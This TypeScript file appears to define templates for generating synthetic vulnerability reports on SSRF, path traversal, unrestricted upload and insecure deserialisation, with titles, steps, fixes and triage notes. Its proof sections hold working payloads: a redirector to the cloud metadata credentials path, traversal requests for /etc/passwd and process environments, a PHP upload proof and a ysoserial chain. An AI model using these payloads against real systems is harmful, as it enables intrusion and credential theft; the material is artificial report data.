import type { VulnerabilityClass } from './vulnerability-class.ts'

const serverSideRequest: VulnerabilityClass = {
  key: 'server-side-request',
  type: 'Server-side request forgery',
  cwe: 918,
  weight: 6,
  surfaces: ['web', 'api', 'infrastructure'],
  shape: 'read',
  severities: [
    ['Critical', 2],
    ['High', 5],
    ['Medium', 3],
  ],
  places: [
    { method: 'POST', path: '«api»/webhooks/test', parameter: 'url' },
    { method: 'POST', path: '«collection»/import', parameter: 'sourceUrl' },
    { path: '«api»/proxy/image', parameter: 'src' },
    { method: 'POST', path: '«collection»/{id}/pdf', parameter: 'logoUrl' },
    { method: 'POST', path: '«api»/integrations/oidc/discover', parameter: 'issuer' },
  ],
  titles: [
    'SSRF in «path» reads internal services through `«parameter»`',
    'Full-read SSRF via `«parameter»`: cloud metadata of «host»',
    'Blind SSRF with redirect at «path»',
    'The PDF renderer fetches `«parameter»` from inside (SSRF)',
    'SSRF filter bypass with DNS rebinding on «path»',
  ],
  summaries: [
    '`«parameter»` is fetched by the server and the answer is shown. Private addresses are refused, but a redirect to one is followed.',
    'The service behind `«path»` fetches any address in `«parameter»`. I reach the metadata service and `«internalHost»` with it.',
    'The check of `«parameter»` resolves the name once, the request a second time. A name that changes its answer in between leads inside.',
  ],
  steps: [
    [
      'Host a redirect to `http://169.254.169.254/latest/meta-data/` at `«listener»`.',
      'Send the request below with that address as `«parameter»`.',
      'The answer of the metadata service is part of the response.',
      'I asked for the **names** of the roles only, not for credentials.',
    ],
    [
      'Use `http://«internalIp»:8500/` as `«parameter»`: the error says "connection refused" after 3 ms.',
      'Use port 9200: the answer is the banner of the search server.',
      'The difference between the two tells which ports are open.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Request and response:',
        lang: 'http',
        code: `«method» «path» HTTP/2
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: application/json

{"«parameter»":"https://«listener»/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"}

HTTP/2 200
Content-Type: application/json

{"status":200,"body":"«slug»-prod-worker"}`,
      },
    ],
    [
      {
        say: 'Scanning three ports with the time that each took:',
        lang: 'text',
        code: `http://«internalIp»:22/     status 0    3 ms   connection refused
http://«internalIp»:9200/   status 200  8 ms   {"cluster_name":"«slug»-search","version":…
http://«internalHost»/      status 302  5 ms   Location: /login`,
      },
    ],
    [
      {
        say: 'The redirector, complete:',
        lang: 'python',
        code: `from http.server import BaseHTTPRequestHandler, HTTPServer

class Redirect(BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(302)
        self.send_header("Location", "http://169.254.169.254/latest/meta-data/")
        self.end_headers()

HTTPServer(("", 8080), Redirect).serve_forever()`,
      },
    ],
  ],
  impacts: [
    'With the role `«slug»-prod-worker` an attacker may read the storage of «company», among it «secrets».',
    'Services that trust the network are open to the internet: search, configuration, consoles without a password.',
  ],
  fixes: [
    'Fetch through a proxy that refuses private addresses after name resolution and at each redirect; require tokens for the metadata service.',
    'Keep a list of allowed hosts for `«parameter»`, there are only three in use.',
  ],
  notes: [
    'Metadata v1 is off on the new nodes, but this worker runs on an old one. Role can read two buckets. High.',
    'Redirect is followed, reproduced with our own listener. Egress proxy exists, this service does not use it.',
  ],
}

const pathTraversal: VulnerabilityClass = {
  key: 'path-traversal',
  type: 'Path traversal',
  cwe: 22,
  weight: 4,
  surfaces: ['web', 'api', 'device', 'infrastructure'],
  shape: 'read',
  severities: [
    ['Critical', 1],
    ['High', 6],
    ['Medium', 3],
  ],
  places: [
    { path: '«api»/files/download', parameter: 'name' },
    { path: '/static/..%2f..%2f', parameter: 'path' },
    { path: '«collection»/{id}/attachments', parameter: 'filename' },
    { path: '/i18n/load', parameter: 'locale' },
  ],
  titles: [
    'Path traversal in «path» reads any file of the server',
    'Arbitrary file read via `«parameter»` on «host»',
    'LFI: `«parameter»=....//....//etc/passwd`',
    'Directory traversal with encoded slashes at «path»',
  ],
  summaries: [
    '`«parameter»` is joined to a directory without a check. With `../` I leave it and read files such as `/etc/passwd`.',
    'The filter takes `../` out once. `....//` becomes `../` by that, so the directory can be left.',
  ],
  steps: [
    [
      'Open any attachment and look at the address.',
      'Replace `«parameter»` by the value below.',
      'The answer is the file.',
    ],
  ],
  proofs: [
    [
      {
        say: 'With curl, so that no browser tidies up the path:',
        lang: 'bash',
        code: `$ curl -s --path-as-is -H 'Cookie: «cookieName»=«session»' \\
    'https://«host»«path»?«parameter»=....//....//....//....//etc/passwd' | head -3
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
app:x:1000:1000::/srv/app:/bin/sh`,
      },
    ],
    [
      {
        say: 'The environment of the process, values masked:',
        lang: 'http',
        code: `GET «path»?«parameter»=..%252f..%252f..%252fproc%252fself%252fenviron HTTP/1.1
Host: «host»

HTTP/1.1 200 OK
Content-Type: application/octet-stream

PATH=/usr/bin DATABASE_URL=postgres://app:******@«internalHost»/app SECRET_KEY_BASE=8a1f******`,
      },
    ],
  ],
  impacts: [
    'Source, configuration and keys can be read. With the signing key for sessions it becomes a takeover of any account.',
    'Any file the service may read, uploaded documents of other «customer»s included.',
  ],
  fixes: [
    'Resolve the path and refuse what does not begin with the directory; better, look the file up by id.',
  ],
  notes: [
    '/etc/passwd from the container, yes. Secrets are mounted under /run and readable for the user. High.',
  ],
}

const fileUpload: VulnerabilityClass = {
  key: 'file-upload',
  type: 'Unrestricted file upload',
  cwe: 434,
  weight: 4,
  surfaces: ['web', 'api'],
  shape: 'takeover',
  severities: [
    ['Critical', 3],
    ['High', 4],
    ['Medium', 3],
  ],
  places: [
    { method: 'POST', path: '«api»/avatar', parameter: 'file', detail: '.phtml' },
    { method: 'POST', path: '«collection»/{id}/attachments', parameter: 'file', detail: '.svg' },
    { method: 'POST', path: '«api»/import', parameter: 'archive', detail: '.zip with `../` in its names' },
    { method: 'PUT', path: '«api»/branding/logo', parameter: 'logo', detail: '.html behind a null byte' },
  ],
  titles: [
    'Unrestricted upload at «path»: «detail» is accepted and executed',
    'RCE through template upload («detail»)',
    'Upload filter bypass («detail») on «host»',
    'File type is decided by the client: «path» takes «detail»',
  ],
  summaries: [
    '`«path»` believes the `Content-Type` of the caller. A file with «detail» is stored and served from the main domain.',
    'The list of forbidden endings misses «detail». What I uploaded is run by the server when it is opened.',
  ],
  steps: [
    [
      'Upload any picture and keep the request.',
      'Change the name to «detail» and the content to the lines below; leave `image/png` as it is.',
      'Open the address from the answer.',
      'The output of the code is shown. The file is `«handle»-poc`, please delete it.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Upload:',
        lang: 'http',
        code: `«method» «path» HTTP/1.1
Host: «host»
Cookie: «cookieName»=«session»
Content-Type: multipart/form-data; boundary=x

--x
Content-Disposition: form-data; name="«parameter»"; filename="«handle»-poc.phtml"
Content-Type: image/png

<?php echo 'poc by «handle»: ' . (7 * 7); ?>
--x--

HTTP/1.1 201 Created
{"url":"/uploads/2026/11/«handle»-poc.phtml"}`,
      },
      {
        say: 'And opened:',
        lang: 'bash',
        code: '$ curl https://«host»/uploads/2026/11/«handle»-poc.phtml\npoc by «handle»: 49',
      },
    ],
  ],
  impacts: [
    'Code of the attacker runs on the web server. The next step would be a shell, which I left out.',
    'Stored pages and scripts under the real domain, and from an archive files in places where they do not belong.',
  ],
  fixes: [
    'Store uploads outside the document root under names of your own, decide the type by content and serve them from another domain.',
  ],
  notes: [
    '49 it is. Upload directory had AllowOverride after the migration. Removed the file, engine is off for /uploads now.',
  ],
}

const deserialisation: VulnerabilityClass = {
  key: 'deserialisation',
  type: 'Insecure deserialisation',
  cwe: 502,
  weight: 2,
  surfaces: ['web', 'api', 'code'],
  shape: 'takeover',
  severities: [
    ['Critical', 6],
    ['High', 3],
  ],
  places: [
    { method: 'POST', path: '/viewstate', parameter: '__VIEWSTATE', detail: 'a Java object' },
    { path: '/«segment»/wizard', parameter: 'state', detail: 'a pickled Python object' },
    { path: '/', parameter: 'remember_me', detail: 'a serialised PHP object' },
    { method: 'POST', path: '«api»/cache/import', parameter: 'payload', detail: 'a YAML document with tags' },
  ],
  titles: [
    'Insecure deserialisation of `«parameter»` («detail») on «host»',
    'RCE: `«parameter»` at «path» is «detail» without a signature',
    'Unsigned `«parameter»` is deserialised',
  ],
  summaries: [
    '`«parameter»` carries «detail» that the server turns back into objects without checking where it comes from. A gadget chain from the class path runs code.',
    'By changing `«parameter»`, which is «detail», I make the server resolve a name of my choice. That proves that foreign objects are built.',
  ],
  steps: [
    [
      'Decode `«parameter»`: the first bytes give away what it is.',
      'Build a chain that does one DNS lookup and nothing else.',
      'Send it. The lookup arrives.',
    ],
  ],
  proofs: [
    [
      {
        say: 'Chain for the lookup:',
        lang: 'bash',
        code: `$ java -jar ysoserial.jar URLDNS https://«listener» | base64 -w0 > chain
$ curl -s -o /dev/null -w '%{http_code}\\n' 'https://«host»«path»' --data-urlencode «parameter»@chain
500
# listener: 11:20:04 DNS A «listener» from «ip»`,
      },
    ],
    [
      {
        say: 'The value as it comes from the server, decoded:',
        lang: 'text',
        code: `00000000  ac ed 00 05 73 72 00 2e  6f 72 67 2e 73 70 72 69  |....sr..org.spri|
00000010  6e 67 66 72 61 6d 65 77  6f 72 6b 2e 77 65 62 66  |ngframework.webf|`,
      },
    ],
  ],
  impacts: [
    'Code execution on the application server with the rights of the service.',
    'Control over the objects of the application, and with the libraries present over the machine.',
  ],
  fixes: ['Sign the value, or better: keep the state on the server and give out an id.'],
  notes: [
    'URLDNS callback reproduced. Commons Collections is on the class path in a dangerous version. Critical.',
  ],
}

export const serverFileClasses: readonly VulnerabilityClass[] = [
  serverSideRequest,
  pathTraversal,
  fileUpload,
  deserialisation,
]
